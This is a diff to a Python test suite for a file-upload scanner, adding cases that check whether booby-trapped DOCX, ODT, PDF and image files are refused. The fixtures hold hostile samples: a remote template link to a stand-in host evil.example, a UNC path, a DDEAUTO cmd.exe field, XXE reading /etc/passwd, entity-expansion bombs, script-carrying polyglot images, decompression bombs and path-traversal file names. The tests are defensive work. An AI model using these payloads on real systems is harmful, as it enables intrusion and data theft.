@@ -126,13 +126,40 @@ def overlapping():
 
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+EVIL = "https://evil.example/t.dotm"
 TEMPLATE = (
     '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
+FAR = '<a xmlns:draw="d" xmlns:x="x"><draw:image x:href="https://evil.example/a.png"/></a>'
+DDE = "<w:document xmlns:w='w'><w:instrText> DDEAUTO cmd.exe</w:instrText></w:document>"
 LAUGHS = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
 XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
+
+
+def rel(part, kind, target="https://evil.example/a.png"):
+    return docx(**{part: TEMPLATE.replace("attachedTemplate", kind).replace(EVIL, target)})
+
+
+def huge(kind, width=30_000, height=30_000):
+    """The header of a picture, and nothing after it that would take long to make."""
+    if kind == "WEBP":
+        sides = (16_383).to_bytes(3, "little") * 2
+        return b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + sides
+    out = io.BytesIO()
+    Image.new("L", (8, 8)).save(out, kind)
+    data, size = out.getvalue(), struct.pack(">HH", height, width)
+    if kind == "PNG":
+        header = b"IHDR" + struct.pack(">II", width, height) + data[24:29]
+        return data[:12] + header + struct.pack(">I", zlib.crc32(header)) + data[33:]
+    if kind == "JPEG":
+        return data.replace(b"\x08\0\x08\0\x08", b"\x08" + size)
+    side = struct.Struct("<HHIHH")
+    for tag in (256, 257):
+        data = data.replace(side.pack(tag, 3, 1, 8, 0), side.pack(tag, 3, 1, width, 0))
+        data = data.replace(side.pack(tag, 4, 1, 8, 0), side.pack(tag, 4, 1, width, 0))
+    return data
 
 
 @pytest.mark.parametrize(
@@ -162,6 +189,42 @@ XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
         (lambda: docx(**{"word/media/image1.png": b"MZ\x90"}), "a.docx", "another program"),
         (lambda: docx(**{"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "another program"),
         (lambda: docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "a.docx", "template"),
+        (lambda: rel("word/_rels/document.xml.rels", "image"), "a.docx", r"\(evil.example\)"),
+        (lambda: rel("word/_rels/a.xml.rels", "image", r"\\10.0.0.1\a"), "a.docx", r"\(10.0.0.1\)"),
+        (lambda: rel("word/_rels/a.xml.rels", "aFChunk", "a.html"), "a.docx", "another program"),
+        (lambda: odt(**{"content.xml": FAR}), "a.odt", r"\(evil.example\)"),
+        (lambda: docx(**{"word/document.xml": DDE}), "a.docx", "starts another program"),
+        (
+            lambda: docx(**{"word/media/a.svg": "<svg onload='x'/>"}),
+            "a.docx",
+            "a.svg. holds a prog",
+        ),
+        (lambda: docx(**{"word/page": "<!DOCTYPE html><p>"}), "a.docx", "another program"),
+        (lambda: docx(**{"word/late.xml": " " * 9000 + LAUGHS}), "a.docx", "entities"),
+        (lambda: docx(**{"word/late": "<?xml version='1.0'?>" + LAUGHS}), "a.docx", "entities"),
+        (
+            lambda: docx(**{"word/embeddings/a.xlsx": docx(**{"x/vbaProject.bin": ""})}),
+            "a.docx",
+            "macros",
+        ),
+        (
+            lambda: docx(**{"word/embeddings/a.xlsx": docx(**{"x.bin": bytes(10 * MB)})}),
+            "a.docx",
+            "unpacks to far more",
+        ),
+        (lambda: docx() + b"%PDF-1.4", "a.docx", "disguise"),
+        (
+            lambda: docx(**{"word/media/image1.png": huge("PNG")}),
+            "a.docx",
+            r"image1.png\) has 900 mi",
+        ),
+        (lambda: odt(**{"Pictures/1.jpg": huge("JPEG")}), "a.odt", r"1.jpg\) has 900 million"),
+        (lambda: odt(**{"Pictures/1.tif": huge("TIFF")}), "a.odt", r"1.tif\) has 900 million"),
+        (
+            lambda: docx(**{"word/media/a.webp": huge("WEBP")}),
+            "a.docx",
+            r"a.webp\) has 268 million",
+        ),
         (lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", "password"),
         (lambda: OLE + bytes(3000), "a.docx", "inside is something else"),
         (
@@ -181,7 +244,7 @@ XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
         (lambda: in_object_stream(b"<</S/GoToE>>", b"ObjSt#6d"), "a.pdf", "a program"),
         (lambda: in_object_stream(b"", more=b"/Predictor 12"), "a.pdf", "nobody can look into"),
         (lambda: in_object_stream(b"").replace(b"Flate", b"LZW"), "a.pdf", "nobody can look into"),
-        (lambda: in_object_stream(b" " * 8 * MB) * 30, "a.pdf", "unpacks to far more"),
+        (lambda: in_object_stream(b" " * 8 * MB) * 15, "a.pdf", "unpacks to far more"),
         (lambda: pdf(b"% >>stream\n/OpenAction<</S/JavaScript/JS(x)>>"), "a.pdf", "a program"),
         (lambda: pdf(trailer=b"/Encrypt% 5\n5 0 R"), "a.pdf", "password"),
         (lambda: pdf_with_words("a" * 9000)[:5000], "a.pdf", "breaks off"),
@@ -198,9 +261,9 @@ XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
         (lambda: b"", "a.docx", "empty"),
         (pdf, "a.pdf.exe", "not taken"),
         (pdf, "a.php.pdf", "two endings"),
-        (pdf, "a\u202efdp.pdf", "characters"),
-        (pdf, "a\0.pdf", "characters"),
-        (pdf, "../../a.pdf", "characters"),
+        (pdf, "a\u202efdp.pdf", "turns letters round"),
+        (pdf, "a\0.pdf", "cannot have"),
+        (pdf, "../../a.pdf", "names a folder"),
     ],
 )
 def test_a_trap_is_refused_in_its_own_words(judge, make, name, part):
@@ -241,6 +304,10 @@ def test_what_only_looks_alike_passes(judge):
     assert judge(pdf_with_words("On JavaScript"), "a.pdf").kind == "pdf"
     chart = docx()
     assert judge(docx(**{"word/embeddings/Sheet1.xlsx": chart}), "a.docx").kind == "docx"
+    link = rel("word/_rels/document.xml.rels", "hyperlink")
+    assert judge(link, "a.docx").kind == "docx"
+    own = rel("word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:\\Normal.dotm")
+    assert judge(own, "a.docx").kind == "docx"
     formula = '<!DOCTYPE math:math PUBLIC "-//OO//DTD" "math.dtd"><math:math xmlns:math="m"/>'
     assert judge(odt(**{"Object 1/content.xml": formula}), "a.odt").kind == "odt"
 
@@ -256,6 +323,26 @@ def test_a_large_file_of_noise_is_looked_through_quickly(judge):
         began = time.monotonic()
         assert judge(data, "a.pdf").kind == "pdf"
         assert time.monotonic() - began < 5
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "part"),
+    [
+        (huge("PNG"), "a.png", "900 million pixels"),
+        (huge("JPEG"), "a.jpg", "900 million pixels"),
+        (huge("WEBP"), "a.webp", "268 million pixels"),
+        (b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)//", "a.gif", "disguise"),
+        (huge("JPEG", 8, 8) + b"<script>alert(1)</script>", "a.jpg", "disguise"),
+        (huge("JPEG", 8, 8) + docx() + bytes(70_000), "a.jpg", "disguise"),
+        (huge("PNG", 8, 8) + pdf(), "a.png", "disguise"),
+    ],
+)
+def test_a_picture_that_is_a_trap_is_refused(judge, data, name, part):
+    with pytest.raises(Refused, match=part):
+        judge(data, name, IMAGE_KINDS)
+    if "pixels" in part:
+        with pytest.raises(ImageRefused, match=part):
+            open_image(data)
 
 
 @pytest.mark.checklist(43)
